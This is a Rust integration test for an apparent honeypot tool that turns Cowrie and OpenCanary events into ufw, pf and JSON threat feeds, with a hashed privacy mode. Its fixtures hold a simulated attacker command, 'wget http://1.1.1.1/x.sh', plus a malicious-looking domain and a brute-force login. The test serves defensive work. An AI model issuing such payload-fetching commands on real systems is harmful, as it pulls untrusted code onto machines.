// file: tests/export_pipeline.rs
// description: end to end ingest and feed export through the public api

use legiontrap::{
    EventLog, ExportFormat, FeedExporter, IngestPipeline, IocFeed, PrivacyMapper, collect,
    maybe_map,
};
use pretty_assertions::assert_eq;
use serde_json::{Value, json};
use std::sync::Arc;
use tempfile::tempdir;

const SALT: &str = "integration-salt";

fn sensor_output() -> String {
    [
        json!({"eventid": "cowrie.login.failed", "src_ip": "8.8.8.8", "username": "root", "password": "123456"}),
        json!({"eventid": "cowrie.command.input", "src_ip": "8.8.8.8", "input": "wget http://1.1.1.1/x.sh"}),
        json!({"node_id": "opencanary-1", "logtype": 2000, "src_host": "192.168.1.20", "logdata": {"USERNAME": "admin"}}),
        json!({"node_id": "opencanary-1", "logtype": 3001, "src_host": "9.9.9.9", "hostname": "evil.example.org"}),
    ]
    .iter()
    .map(Value::to_string)
    .collect::<Vec<_>>()
    .join("\n")
}

#[tokio::test]
async fn ingest_then_export_all_formats() {
    let dir = tempdir().unwrap();
    let log = Arc::new(EventLog::new(dir.path().join("events.jsonl")));

    let summary = IngestPipeline::new(Arc::clone(&log))
        .ingest_text(&sensor_output())
        .await
        .unwrap();
    assert_eq!(summary.accepted, 4);

    let exporter = FeedExporter::new(Arc::clone(&log), PrivacyMapper::disabled());
    assert_eq!(
        exporter.render(ExportFormat::Ufw).await.unwrap(),
        "deny from 8.8.8.8\ndeny from 1.1.1.1\ndeny from 9.9.9.9\n"
    );
    assert_eq!(
        exporter.render(ExportFormat::Pf).await.unwrap(),
        "table <blocked_ips> persist { 8.8.8.8, 1.1.1.1, 9.9.9.9 }\nblock in quick from <blocked_ips> to any\n"
    );

    let feed: IocFeed = serde_json::from_str(&exporter.render(ExportFormat::Json).await.unwrap()).unwrap();
    assert_eq!(feed.ips, vec!["8.8.8.8", "1.1.1.1", "9.9.9.9"]);
    assert_eq!(feed.domains, vec!["evil.example.org"]);
}

#[tokio::test]
async fn privacy_mode_hides_every_raw_value() {
    let dir = tempdir().unwrap();
    let log = Arc::new(EventLog::new(dir.path().join("events.jsonl")));
    IngestPipeline::new(Arc::clone(&log))
        .ingest_text(&sensor_output())
        .await
        .unwrap();

    let exporter = FeedExporter::new(Arc::clone(&log), PrivacyMapper::hashed(SALT));
    for format in [ExportFormat::Ufw, ExportFormat::Pf, ExportFormat::Json] {
        let rendered = exporter.render(format).await.unwrap();
        for raw in ["8.8.8.8", "1.1.1.1", "9.9.9.9", "192.168.1.20", "evil.example.org"] {
            assert!(!rendered.contains(raw), "{raw} leaked into {format:?} feed");
        }
    }

    let ufw = exporter.render(ExportFormat::Ufw).await.unwrap();
    assert_eq!(
        ufw,
        format!(
            "deny from {}\ndeny from {}\ndeny from {}\n",
            maybe_map("8.8.8.8", true, SALT),
            maybe_map("1.1.1.1", true, SALT),
            maybe_map("9.9.9.9", true, SALT)
        )
    );
    assert_eq!(ufw, exporter.render(ExportFormat::Ufw).await.unwrap());
}

#[tokio::test]
async fn packet_filter_table_from_logged_documents() {
    let dir = tempdir().unwrap();
    let path = dir.path().join("events.jsonl");
    let lines = [
        json!({"src_ip": "10.0.0.1"}),
        json!({"source_ip": "203.0.113.10"}),
        json!({"ip": "8.8.8.8"}),
        json!({"message": "failed from 192.168.1.7"}),
    ]
    .iter()
    .map(|event| format!("{event}\n"))
    .collect::<String>();
    tokio::fs::write(&path, lines).await.unwrap();

    let exporter = FeedExporter::new(Arc::new(EventLog::new(path)), PrivacyMapper::disabled());
    assert_eq!(
        exporter.render(ExportFormat::Pf).await.unwrap(),
        "table <blocked_ips> persist { 8.8.8.8 }\nblock in quick from <blocked_ips> to any\n"
    );
    assert_eq!(exporter.render(ExportFormat::Ufw).await.unwrap(), "deny from 8.8.8.8\n");
}

#[test]
fn collect_over_raw_documents() {
    let events = vec![
        json!({"src_ip": "1.2.3.4", "dst_port": 22, "service": "ssh"}),
        json!({"src_ip": "5.6.7.8", "dst_port": 80, "service": "http"}),
        json!({"src_ip": "1.2.3.4", "dst_port": 8080, "service": "http-proxy"}),
        json!({"payload": {"message": "scan from 10.1.2.3 then 4.4.4.4"}}),
    ];

    assert_eq!(collect(&events, false, ""), vec!["1.2.3.4", "5.6.7.8", "4.4.4.4"]);

    let hashed = collect(&events, true, SALT);
    assert_eq!(hashed.len(), 3);
    assert!(hashed.iter().all(|value| value.starts_with("ip-")));
}
